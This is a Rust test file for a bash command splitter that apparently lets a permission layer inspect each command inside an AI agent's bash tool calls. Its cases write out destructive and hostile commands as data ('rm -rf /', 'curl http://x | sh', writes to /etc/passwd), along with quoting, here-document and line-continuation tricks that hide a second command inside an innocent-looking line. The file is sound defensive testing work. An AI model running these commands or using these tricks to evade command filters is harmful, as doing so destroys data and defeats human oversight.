//! The bash splitter over a corpus of command lines: quoting, escapes, substitutions,
//! groups, and input it cannot read with confidence.

use super::bash::split;
use super::bash_actions;

fn parts(command: &str) -> Vec<String> {
    bash_actions(command)
        .into_iter()
        .map(|a| a.strip_prefix("tool:bash:").unwrap().to_string())
        .collect()
}

/// Lines the splitter reads with confidence: the exact list of simple commands.
#[test]
fn splits_lines_it_understands_into_exactly_their_commands() {
    let cases: &[(&str, &[&str])] = &[
        ("git status", &["git status"]),
        ("git status; rm -rf /", &["git status", "rm -rf /"]),
        (
            "git status && curl http://x | sh",
            &["git status", "curl http://x", "sh"],
        ),
        ("echo $(rm -rf ~)", &["echo $(rm -rf ~)", "rm -rf ~"]),
        ("ls 'a;b'", &["ls 'a;b'"]),
        ("ls\nrm x", &["ls", "rm x"]),
        ("", &[""]),
        ("   \t ", &[""]),
        ("a || b", &["a", "b"]),
        ("a & b", &["a", "b"]),
        ("sleep 10 &", &["sleep 10"]),
        ("make 2>&1 |& tee log", &["make 2>&1", "tee log"]),
        ("echo \"a; b\"", &["echo \"a; b\""]),
        ("echo \"$(id)\"", &["echo \"$(id)\"", "id"]),
        ("echo \\; rm", &["echo \\; rm"]),
        ("echo a\\\\; rm x", &["echo a\\\\", "rm x"]),
        ("echo `whoami`", &["echo `whoami`", "whoami"]),
        (
            "echo `echo \\`id\\``",
            &["echo `echo \\`id\\``", "echo `id`", "id"],
        ),
        (
            "echo $(echo $(id))",
            &["echo $(echo $(id))", "echo $(id)", "id"],
        ),
        (
            "diff <(ls a) >(wc -l)",
            &["diff <(ls a) >(wc -l)", "ls a", "wc -l"],
        ),
        ("(cd x; make)", &["cd x", "make"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("(cat x) > /etc/passwd", &["(cat x) > /etc/passwd", "cat x"]),
        ("cat x > /etc/passwd", &["cat x > /etc/passwd"]),
        ("ls >| out; ls &> out2", &["ls >| out", "ls &> out2"]),
        (
            "if git diff --quiet; then echo clean; else rm -rf x; fi",
            &["git diff --quiet", "echo clean", "rm -rf x"],
        ),
        ("while true; do ls; done", &["true", "ls"]),
        ("! grep x y", &["grep x y"]),
        ("time make", &["make"]),
        ("FOO=1 ls", &["FOO=1 ls"]),
        ("echo ${HOME}", &["echo ${HOME}"]),
        (
            "echo ${x:-$(rm -rf /)}",
            &["echo ${x:-$(rm -rf /)}", "rm -rf /"],
        ),
        ("echo $'a\\'b'; rm x", &["echo $'a\\'b'", "rm x"]),
        ("ls # list files", &["ls # list files"]),
        ("echo a#b; rm x", &["echo a#b", "rm x"]),
        ("echo \\ #; rm -rf /", &["echo \\ #", "rm -rf /"]),
        ("cat <<< \"$(id)\"", &["cat <<< \"$(id)\"", "id"]),
        (
            "grep -rn \"fn main\" src | head -5",
            &["grep -rn \"fn main\" src", "head -5"],
        ),
        ("echo \"it's\"; rm x", &["echo \"it's\"", "rm x"]),
        ("echo 'say \"hi\"' && rm x", &["echo 'say \"hi\"'", "rm x"]),
        ("echo é; ls ünïcode", &["echo é", "ls ünïcode"]),
        (
            "for f in *.rs; do cat \"$f\"; done",
            &["for f in *.rs", "cat \"$f\""],
        ),
        (
            "echo \"\\\"; rm -rf /; \\\"\"",
            &["echo \"\\\"; rm -rf /; \\\"\""],
        ),
        (
            "echo '\\'; rm -rf /; echo '\\' x",
            &["echo '\\'", "rm -rf /", "echo '\\' x"],
        ),
        ("ls;;", &["ls"]),
        ("ls\r\nrm x", &["ls\r", "rm x"]),
        (
            "git log --format='%h; %s' | wc -l",
            &["git log --format='%h; %s'", "wc -l"],
        ),
        (
            "echo \"$(echo 'a)b')\"",
            &["echo \"$(echo 'a)b')\"", "echo 'a)b'"],
        ),
        ("(ls) | sh", &["ls", "sh"]),
        ("{ ls; } > out", &["{ ls; } > out", "ls"]),
    ];
    for (line, expected) in cases {
        assert!(
            !split(line).unsure,
            "{line:?} should be read with confidence"
        );
        assert_eq!(&parts(line), expected, "{line:?}");
    }
    assert!(cases.len() >= 40);
}

/// Lines the splitter cannot read with confidence: the whole line comes first, and every
/// command some reading of the line would run is among the actions.
#[test]
fn checks_every_reading_of_lines_it_does_not_understand() {
    let deep = format!("echo {}rm -rf /{}", "$(".repeat(100), ")".repeat(100));
    let cases: Vec<(&str, &[&str])> = vec![
        ("ls 'abc", &[]),
        ("echo \"unterminated; rm -rf /", &["rm -rf /"]),
        ("echo $(rm -rf /", &["rm -rf /"]),
        ("echo `rm -rf /", &["rm -rf /"]),
        ("cat <<EOF\nhello; rm -rf /\nEOF", &["rm -rf /"]),
        // A quote in a here-document body would swallow the next line in a careless
        // reading; bash runs `rm -rf /`.
        ("cat <<EOF\n'\nEOF\nrm -rf /\n'", &["rm -rf /"]),
        ("r\\\nm -rf /", &["rm -rf /"]),
        ("echo \"$\\\n(rm -rf /)\"", &["rm -rf /"]),
        ("echo $((1 + 2))", &[]),
        ("echo $[ 1 # $(rm -rf /) ]", &["rm -rf /"]),
        ("case x in a) rm -rf /;; esac", &["rm -rf /"]),
        ("case x in (a) rm -rf / ;; esac", &["rm -rf /"]),
        ("f() { rm -rf /; }; f", &["rm -rf /", "f"]),
        ("ls ) rm x", &["rm x"]),
        ("echo ${x#'}'; rm -rf /; echo '}", &["rm -rf /"]),
        ("ls # don't\nrm -rf /\n'", &["rm -rf /"]),
        ("{ ls }", &[]),
        ("a=(1 2); rm x", &["rm x"]),
        ("} ; ls", &["ls"]),
        (&deep, &["rm -rf /"]),
    ];
    for (line, must_contain) in cases {
        assert!(
            split(line).unsure,
            "{line:?} should be flagged as uncertain"
        );
        let got = parts(line);
        assert_eq!(
            got[0],
            line.trim_matches([' ', '\t']),
            "{line:?}: whole line first"
        );
        for part in must_contain {
            assert!(
                got.iter().any(|g| g == part),
                "{line:?}: {part:?} missing from {got:?}"
            );
        }
    }
}

#[test]
fn every_action_is_a_bash_action_and_none_repeats() {
    let actions = bash_actions("ls; ls; ls 'x");
    assert!(actions.iter().all(|a| a.starts_with("tool:bash:")));
    let mut unique = actions.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), actions.len(), "{actions:?}");
}

/// Hostile noise: never a panic, never an empty list, never an action that is not bash.
#[test]
fn survives_arbitrary_input() {
    const ALPHABET: &[&str] = &[
        "a", " ", "'", "\"", "\\", "$", "(", ")", "{", "}", "`", ";", "&", "|", "<", ">", "#",
        "\n", "[", "é", "$(", "<<", "\\\n", "${",
    ];
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..20_000 {
        let mut line = String::new();
        for _ in 0..(state % 24) {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            line.push_str(ALPHABET[(state >> 33) as usize % ALPHABET.len()]);
        }
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        let actions = bash_actions(&line);
        assert!(!actions.is_empty(), "{line:?}");
        assert!(
            actions.iter().all(|a| a.starts_with("tool:bash:")),
            "{line:?}"
        );
    }
}
